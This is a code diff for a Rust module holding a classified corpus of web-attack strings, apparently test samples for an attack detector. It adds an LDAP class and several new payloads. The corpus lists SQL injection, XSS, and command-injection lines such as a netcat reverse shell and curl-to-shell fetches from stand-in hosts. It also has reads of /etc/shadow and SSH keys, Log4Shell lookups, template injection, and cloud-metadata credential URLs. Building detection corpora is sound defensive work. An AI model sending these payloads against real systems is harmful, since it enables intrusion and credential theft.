@@ -26,15 +26,10 @@ pub enum Class {
     Session,
     /// Heads and requests in values.
     Protocol,
+    /// Filters of LDAP.
+    Ldap,
     /// Requests to internal addresses.
     Ssrf,
-}
-
-/// One attack.
-#[derive(Debug, Clone, Copy)]
-pub(super) struct Attack {
-    pub(super) class: Class,
-    pub(super) value: &'static str,
 }
 
 impl Class {
@@ -52,6 +47,7 @@ impl Class {
             Self::Generic => "nodejs and templates",
             Self::Session => "session fixation",
             Self::Protocol => "protocol",
+            Self::Ldap => "ldap",
             Self::Ssrf => "ssrf",
         }
     }
@@ -66,155 +62,155 @@ impl Class {
             "attack-rfi" => Self::Rfi,
             "attack-injection-php" => Self::Php,
             "attack-injection-java" | "language-java" => Self::Java,
-            "attack-injection-generic" => Self::Generic,
+            "attack-injection-generic" | "attack-ssti" => Self::Generic,
             "attack-fixation" => Self::Session,
-            "attack-protocol" | "attack-ldap" => Self::Protocol,
+            "attack-protocol" => Self::Protocol,
+            "attack-ldap" | "language-ldap" => Self::Ldap,
             "attack-ssrf" => Self::Ssrf,
             _ => return None,
         })
     }
 }
 
-const fn all<const N: usize>(class: Class, values: [&'static str; N]) -> [Attack; N] {
-    let mut attacks = [Attack { class, value: "" }; N];
-    let mut at = 0;
-    while at < N {
-        // `at` is below the length of both.
-        #[allow(clippy::indexing_slicing)]
-        {
-            attacks[at].value = values[at];
-        }
-        at += 1;
-    }
-    attacks
+/// Every attack with its class, class by class.
+pub(super) fn corpus() -> impl Iterator<Item = (Class, &'static str)> {
+    let classes = CORPUS.iter();
+    classes.flat_map(|(class, attacks)| attacks.iter().map(|attack| (*class, *attack)))
 }
 
-/// Every attack, class by class.
-pub(super) fn corpus() -> impl Iterator<Item = &'static Attack> {
-    let classes: [&'static [Attack]; 11] = [
-        &SQLI, &XSS, &RCE, &LFI, &RFI, &PHP, &JAVA, &GENERIC, &SESSION, &PROTOCOL, &SSRF,
-    ];
-    classes.into_iter().flatten()
-}
-
-static SQLI: [Attack; 9] = all(
-    Class::Sqli,
-    [
-        "1' OR '1'='1",
-        "1 UNION ALL SELECT username,password FROM users--",
-        "1'; DROP TABLE orders; --",
-        "1' AND SLEEP(5)#",
-        "admin'/*",
-        "1 AND 1=CONVERT(int,(SELECT @@version))--",
-        "'; EXEC master..xp_cmdshell 'dir'--",
-        "-1 or (select count(*) from information_schema.tables)>0",
-        "1;select pg_sleep(5)--",
-    ],
-);
-
-static XSS: [Attack; 8] = all(
-    Class::Xss,
-    [
-        "<script>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "\"><svg/onload=alert(document.cookie)>",
-        "<a href=\"javascript:alert(1)\">x</a>",
-        "<iframe src=\"javascript:alert(1)\"></iframe>",
-        "' onfocus=alert(1) autofocus x='",
-        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
-        "<style>@import 'http://192.0.2.66/x.css';</style>",
-    ],
-);
-
-static RCE: [Attack; 8] = all(
-    Class::Rce,
-    [
-        "; cat /etc/passwd",
-        "| nc -e /bin/sh 192.0.2.66 4444",
-        "$(curl http://192.0.2.66/x.sh|sh)",
-        "x;wget http://192.0.2.66/x -O- | sh",
-        "() { :; }; /bin/bash -c id",
-        "& ping -n 3 192.0.2.66 &",
-        "x || whoami && uname -a",
-        "powershell.exe -enc SQBFAFgA; Invoke-Expression x",
-    ],
-);
-
-static LFI: [Attack; 5] = all(
-    Class::Lfi,
-    [
-        "../../../../etc/passwd",
-        "..%2f..%2f..%2f..%2fetc/shadow",
-        "/proc/self/environ",
-        "..\\..\\..\\windows\\win.ini",
-        "../../.git/config",
-    ],
-);
-
-static RFI: [Attack; 3] = all(
-    Class::Rfi,
-    [
-        "http://192.0.2.66/shell.txt?",
-        "https://evil.example/shell.php?",
-        "ftp://user:x@evil.example/shell.txt",
-    ],
-);
-
-static PHP: [Attack; 5] = all(
-    Class::Php,
-    [
-        "<?php system($_GET['c']); ?>",
-        "php://filter/convert.base64-encode/resource=index.php",
-        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
-        "$_POST[x](base64_decode('aWQ='));",
-        "call_user_func('shell_exec','id')",
-    ],
-);
-
-static JAVA: [Attack; 5] = all(
-    Class::Java,
-    [
-        "${jndi:ldap://evil.example/a}",
-        "java.lang.Runtime.getRuntime().exec('id')",
-        "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
-        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
-        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
-    ],
-);
-
-static GENERIC: [Attack; 5] = all(
-    Class::Generic,
-    [
-        "require('child_process').execSync('id')",
-        "_$$ND_FUNC$$_function(){return 1}()",
-        "{\"__proto__\":{\"admin\":true}}",
-        "x.constructor.prototype.admin=1",
-        "<%= system('id') %>",
-    ],
-);
-
-static SESSION: [Attack; 2] = all(
-    Class::Session,
-    [
-        "document.cookie=\"sessionid=1; domain=.example.com\"; x.cookie; domain=evil.example",
-        "<meta http-equiv=\"Set-Cookie\" content=\"sessionid=1\">",
-    ],
-);
-
-static PROTOCOL: [Attack; 4] = all(
-    Class::Protocol,
-    [
-        "x\r\nSet-Cookie: session=1",
-        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html",
-        "GET /admin HTTP/1.1\r\nHost: internal",
-        "*)(uid=*))(|(uid=*",
-    ],
-);
-
-static SSRF: [Attack; 2] = all(
-    Class::Ssrf,
-    [
-        "http://169.254.169.254/latest/meta-data/",
-        "http://metadata.google.internal/computeMetadata/v1/",
-    ],
-);
+static CORPUS: [(Class, &[&str]); 12] = [
+    (
+        Class::Sqli,
+        &[
+            "1' OR '1'='1",
+            "1 UNION ALL SELECT username,password FROM users--",
+            "1'; DROP TABLE orders; --",
+            "1' AND SLEEP(5)#",
+            "admin'/*",
+            "1 AND 1=CONVERT(int,(SELECT @@version))--",
+            "'; EXEC master..xp_cmdshell 'dir'--",
+            "-1 or (select count(*) from information_schema.tables)>0",
+            "1;select pg_sleep(5)--",
+        ],
+    ),
+    (
+        Class::Xss,
+        &[
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "\"><svg/onload=alert(document.cookie)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<iframe src=\"javascript:alert(1)\"></iframe>",
+            "' onfocus=alert(1) autofocus x='",
+            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
+            "<style>@import 'http://192.0.2.66/x.css';</style>",
+        ],
+    ),
+    (
+        Class::Rce,
+        &[
+            "; cat /etc/passwd",
+            "| nc -e /bin/sh 192.0.2.66 4444",
+            "$(curl http://192.0.2.66/x.sh|sh)",
+            "x;wget http://192.0.2.66/x -O- | sh",
+            "() { :; }; /bin/bash -c id",
+            "& ping -n 3 192.0.2.66 &",
+            "x || whoami && uname -a",
+            "powershell.exe -enc SQBFAFgA; Invoke-Expression x",
+        ],
+    ),
+    (
+        Class::Lfi,
+        &[
+            "../../../../etc/passwd",
+            "..%2f..%2f..%2f..%2fetc/shadow",
+            "/proc/self/environ",
+            "..\\..\\..\\windows\\win.ini",
+            "../../.git/config",
+            "/var/www/html/.htpasswd",
+            "/home/anna/.ssh/id_rsa",
+        ],
+    ),
+    (
+        Class::Rfi,
+        &[
+            "http://192.0.2.66/shell.txt?",
+            "https://evil.example/shell.php?",
+            "ftp://user:x@evil.example/shell.txt",
+            "file=http://192.0.2.66/cmd.txt",
+            "http://198.51.100.7/c99.php",
+            "url:http://192.0.2.66/a",
+        ],
+    ),
+    (
+        Class::Php,
+        &[
+            "<?php system($_GET['c']); ?>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
+            "$_POST[x](base64_decode('aWQ='));",
+            "call_user_func('shell_exec','id')",
+            "phar://upload.jpg/x",
+            "eval(gzinflate(base64_decode($x)));",
+        ],
+    ),
+    (
+        Class::Java,
+        &[
+            "${jndi:ldap://evil.example/a}",
+            "java.lang.Runtime.getRuntime().exec('id')",
+            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+            "new java.lang.ProcessBuilder({'id'}).start()",
+        ],
+    ),
+    (
+        Class::Generic,
+        &[
+            "require('child_process').execSync('id')",
+            "_$$ND_FUNC$$_function(){return 1}()",
+            "{\"__proto__\":{\"admin\":true}}",
+            "x.constructor.prototype.admin=1",
+            "<%= system('id') %>",
+            "{{ self.__init__.__globals__.os.popen('id').read() }}",
+            "this.constructor.constructor('return process')()",
+        ],
+    ),
+    (
+        Class::Session,
+        &[
+            "document.cookie=\"sessionid=1; domain=.example.com\"; x.cookie; domain=evil.example",
+            "<meta http-equiv=\"Set-Cookie\" content=\"sessionid=1\">",
+            "x.cookie = 'a=1; expires=0; path=/'",
+        ],
+    ),
+    (
+        Class::Protocol,
+        &[
+            "x\r\nSet-Cookie: session=1",
+            "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html",
+            "GET /admin HTTP/1.1\r\nHost: internal",
+            "x\r\nLocation: https://evil.example/",
+            "POST /admin HTTP/1.1",
+        ],
+    ),
+    (
+        Class::Ldap,
+        &[
+            "*)(uid=*))(|(uid=*",
+            "admin)(&(password=*))",
+            "*)(objectClass=*)",
+            "x)(|(cn=*)",
+        ],
+    ),
+    (
+        Class::Ssrf,
+        &[
+            "http://169.254.169.254/latest/meta-data/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://169.254.170.2/v2/credentials",
+            "http://100.100.100.200/latest/meta-data/",
+        ],
+    ),
+];
